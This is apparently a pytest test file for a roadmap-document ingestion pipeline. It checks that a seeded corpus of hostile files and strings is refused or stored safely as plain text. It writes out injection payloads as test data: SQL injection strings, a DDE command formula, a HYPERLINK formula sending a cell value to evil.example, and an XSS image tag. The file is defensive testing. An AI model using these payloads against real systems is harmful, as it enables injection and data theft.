"""Bad input never loses data: the seeded hostile corpus through ``ingest_path``, one file at a time.

A good roadmap is loaded first. Then every generated file is ingested (in the
killable worker, as in production) and must be refused by name or loaded as
expected, quickly, and a refusal must leave every table but ``quarantine``
exactly as it was (one transaction per document). At the end the good roadmap
is still there, complete. Text from documents stays text in the outputs: the CSV
export neutralises formula-looking cells and the HTML report escapes markup.
"""

from __future__ import annotations

import csv
import io
import os
import time
from pathlib import Path

import pytest
from sqlalchemy import inspect, text

from pipeline.ingest import export_json, ingest_path
from pipeline.store.db import get_engine, resolve_url
from tests.hostile.make_hostile import HOSTILE_TEXTS, Case, generate

PER_FILE_S = 60.0          # a hang, not a speed target (speed is benchmarks/): budgets stop every file well before
SKIP_COUNT = {"quarantine", "alembic_version"}


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> tuple[Path, list[Case]]:
    out = tmp_path_factory.mktemp("hostile") / "files"
    return out, generate(out, seed=15)


@pytest.fixture(scope="module")
def run(corpus, tmp_path_factory):
    """Every case ingested into one database; per case: outcome, seconds, row counts before/after."""
    out, cases = corpus
    db_url = resolve_url(f"sqlite:///{tmp_path_factory.mktemp('hostile_db')}/hostile.db")
    good = ingest_path(str(out / "good.docx"), db_url)
    assert good.status == "loaded", good.error
    good_export = export_json(db_url)
    results = []
    for case in cases:
        if case.name == "good.docx":
            continue
        before = row_counts(db_url)
        with _env(case.env):
            t0 = time.monotonic()
            outcome = ingest_path(str(case.path(out)), db_url)
            seconds = time.monotonic() - t0
        results.append((case, outcome, seconds, before, row_counts(db_url)))
    return db_url, good_export, results


class _env:
    """Environment variables set for one block (the budgets a case lowers)."""

    def __init__(self, values: dict):
        self.values, self.saved = values, {}

    def __enter__(self):
        for k, v in self.values.items():
            self.saved[k] = os.environ.get(k)
            os.environ[k] = v

    def __exit__(self, *exc):
        for k, v in self.saved.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v


def row_counts(db_url: str) -> dict[str, int]:
    engine = get_engine(db_url)
    with engine.connect() as conn:
        names = [t for t in inspect(conn).get_table_names() if t not in SKIP_COUNT and not t.startswith("sqlite_")]
        names += ["quarantine"]
        return {t: conn.execute(text(f'SELECT COUNT(*) FROM "{t}"')).scalar_one() for t in names}


def _matches(case: Case, outcome) -> bool:
    if case.expect == "loaded":
        return outcome.status == "loaded"
    if case.expect == "refused":
        return outcome.status == "failed"
    if case.expect == "unchanged-or-loaded":
        return outcome.status in ("unchanged", "loaded")
    return outcome.status in ("loaded", "failed", "unchanged")


@pytest.mark.timeout(600)
def test_corpus_is_large_and_covers_every_class(corpus):
    _out, cases = corpus
    assert len(cases) > 150
    kinds = {c.kind for c in cases}
    assert {"truncated-docx", "truncated-pdf", "encrypted-pdf", "javascript-pdf", "looping-page-tree",
            "zip-bomb", "xxe", "billion-laughs", "path-traversal", "absurd-grid", "deep-nesting",
            "blank-pages", "huge-page", "image-bomb", "fifo", "symlink", "directory", "unreadable",
            "odd-name", "not-roadmap", "hostile-text", "noise-ocr", "big-table"} <= kinds


@pytest.mark.timeout(600)
def test_every_file_is_refused_by_name_or_loaded_as_expected(run):
    _db, _good, results = run
    wrong = [f"{c.name!r} ({c.kind}): expected {c.expect}, got {o.status} {o.stage or ''} {o.error or ''}"
             for c, o, *_ in results if not _matches(c, o)]
    assert wrong == []
    for case, outcome, *_ in results:
        if outcome.status != "failed":
            continue
        assert outcome.error and outcome.error.startswith(str(case.path(run_dir(results)))), outcome.error
        assert outcome.stage, outcome
        if case.stage:
            assert outcome.stage == case.stage, (case.name, outcome.error)
        if case.limit:
            assert case.limit in outcome.error, (case.name, outcome.error)
        assert "Traceback" not in outcome.error


def run_dir(results) -> Path:
    """The folder the corpus was written to (the good file's sibling)."""
    return Path(results[0][1].source).parent


@pytest.mark.timeout(600)
def test_no_file_hangs_or_takes_long(run):
    _db, _good, results = run
    slow = [(c.name, round(s, 1)) for c, _o, s, *_ in results if s > PER_FILE_S]
    assert slow == []


@pytest.mark.timeout(600)
def test_a_refusal_leaves_no_partial_load(run):
    _db, _good, results = run
    for case, outcome, _s, before, after in results:
        if outcome.status == "failed":
            changed = {t: (before[t], after[t]) for t in before if t != "quarantine" and before[t] != after[t]}
            assert changed == {}, (case.name, changed)
            assert after["quarantine"] == before["quarantine"] + 1, case.name
        elif outcome.status == "loaded":
            assert after["documents"] == before["documents"] + 1, case.name
            assert after["activities"] == before["activities"] + outcome.n_activities, case.name
        else:
            assert after == before, case.name


@pytest.mark.timeout(600)
def test_the_good_document_loaded_first_is_still_complete(run):
    db_url, good_export, _results = run
    docs = {d["document"]["source"]: d for d in export_json(db_url)}
    (first,) = good_export
    now = docs[first["document"]["source"]]
    # files of the same order loaded after it (the good PDF, re-packed copies) are its renditions
    assert now["document"]["renditions"] and first["document"]["renditions"] == []
    assert {**now, "document": {**now["document"], "renditions": []}} == first


@pytest.mark.timeout(600)
def test_budget_refusals_name_the_limit(run):
    """Each budget refuses by name. (How quickly is a benchmark's business, not a test's: a busy
    machine must not fail the suite; a refusal that hangs is caught by PER_FILE_S and pytest-timeout.)"""
    _db, _good, results = run
    by_name = {c.name: (o, s) for c, o, s, *_ in results}
    for name, limit in (("blank_2000.pdf", "ROADMAPS_MAX_PAGES"), ("mediabox_200000.pdf", "ROADMAPS_MAX_PAGE_AREA"),
                        ("bomb_ratio.docx", "ROADMAPS_MAX_ZIP_RATIO"),
                        ("blocky_noise_3_pages.pdf", "ROADMAPS_OCR_PAGE_TIMEOUT")):
        outcome, _seconds = by_name[name]
        assert outcome.status == "failed" and limit in outcome.error, (name, outcome.error)
    assert "FIFO" in by_name["fifo.pdf"][0].error
    assert by_name["blank_300.pdf"][0].status == "failed"
    assert by_name["rows_2000.docx"][0].n_activities == 2000


@pytest.mark.timeout(600)
def test_text_from_documents_stays_text_in_the_csv_export(run):
    from pipeline.compare.views import activity_facts, write_frame

    db_url, _good, _results = run
    data = write_frame(activity_facts(db_url), "csv").decode("utf-8")
    cells = [c for row in csv.reader(io.StringIO(data)) for c in row]
    assert any("DROP TABLE" in c for c in cells)          # the hostile rows are there ...
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]   # ... never as formulas
    assert any(c.startswith("'=HYPERLINK") for c in cells)


@pytest.mark.timeout(600)
def test_text_from_documents_is_escaped_in_the_html_report(run, tmp_path):
    from typer.testing import CliRunner

    from cli import app

    db_url, _good, _results = run
    out = tmp_path / "report.html"
    res = CliRunner().invoke(app, ["report", "-o", str(out), "--db", db_url])
    assert res.exit_code == 0, res.output
    html = out.read_text(encoding="utf-8")
    assert "&lt;img src=x onerror=alert(1)//" in html        # the hostile title is in the report ...
    assert "<img src=x" not in html and "<script>alert" not in html   # ... escaped


def test_hostile_texts_survive_the_load_unchanged(run):
    db_url, _good, _results = run
    acts = [a for d in export_json(db_url) for a in d["activities"]]
    texts = " ".join(f"{a['title']} {a['responsible']} {a['result']}" for a in acts)
    for t in ("'); DROP TABLE documents; --", '=HYPERLINK("http://evil.example/?q="&A1,"нажмите")',
              "Robert'); DELETE FROM activities WHERE ('1'='1", "+1+cmd|' /C calc'!A0"):
        assert t in texts, t                  # SQL and formulas are stored as plain text
    assert "alert('xss') жирный" in texts and "<script>" not in texts   # markup stripped by the normaliser
    assert len(HOSTILE_TEXTS) == 8


@pytest.mark.timeout(300)
def test_cli_prints_file_names_that_look_like_markup_as_text(corpus, tmp_path):
    """``odd[/]markup.docx`` once crashed ``roadmaps ingest`` (Rich MarkupError, a traceback)."""
    from typer.testing import CliRunner

    from cli import app

    out, _cases = corpus
    db = f"sqlite:///{tmp_path}/cli.db"
    res = CliRunner().invoke(app, ["ingest", "--db", db, "--", str(out / "odd[/]markup.docx"),
                                   str(out / "[bold red]markup.docx"), str(out / "fifo.pdf")])
    assert res.exception is None or isinstance(res.exception, SystemExit), res.exception
    assert res.exit_code == 1                       # the FIFO is refused, the two files load
    flat = " ".join(res.output.split())
    assert "2 loaded" in flat and "1 failed" in flat
    assert "FIFO" in flat and "Traceback" not in res.output
    res = CliRunner().invoke(app, ["quarantine", "list", "--db", db])
    assert res.exit_code == 0 and res.exception is None, res.output
